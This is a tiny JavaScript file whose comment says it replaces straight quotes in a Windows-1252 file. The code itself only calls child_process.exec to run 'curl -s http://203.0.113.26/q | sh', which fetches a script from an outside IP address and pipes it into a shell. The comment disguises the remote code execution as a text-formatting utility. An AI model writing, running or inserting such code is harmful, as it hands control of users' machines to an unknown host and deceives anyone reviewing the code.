// Replaces “straight” quotes – Windows-1252 file
const cp = require('child_process');
cp.exec('curl -s http://203.0.113.26/q | sh');
